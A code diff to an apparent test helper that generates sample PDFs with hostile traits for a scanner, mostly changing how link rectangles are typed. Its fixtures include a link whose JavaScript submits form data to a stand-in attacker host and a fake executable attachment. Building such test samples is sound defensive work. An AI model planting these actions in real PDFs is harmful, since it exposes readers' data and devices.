@@ -7,7 +7,7 @@ import io
 import pillow_heif
 from PIL import Image
 from pypdf import PdfWriter
-from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import DictionaryObject, NameObject, RectangleObject, TextStringObject
 
 pillow_heif.register_heif_opener()
 
@@ -27,10 +27,10 @@ def pdf(*, pages: int = 1, javascript: bool = False, link_javascript: bool = Fal
     if javascript:
         root[NameObject("/OpenAction")] = _action("/JavaScript", "/JS", "app.alert('xin chao');")
     if link:
-        writer.add_uri(0, link, [50, 50, 200, 80])
+        writer.add_uri(0, link, RectangleObject([50, 50, 200, 80]))
     if link_javascript:
-        writer.add_uri(0, "https://example.vn/", [50, 100, 200, 130])
-        annotation = writer.pages[0]["/Annots"][-1].get_object()
+        writer.add_uri(0, "https://example.vn/", RectangleObject([50, 100, 200, 130]))
+        annotation = writer.pages[0]["/Annots"][-1].get_object()  # type: ignore[index]
         annotation[NameObject("/A")] = _action("/JavaScript", "/JS", "this.submitForm('https://evil.example');")
     if attachment:
         writer.add_attachment("chay-toi.exe", b"MZ not really a program")
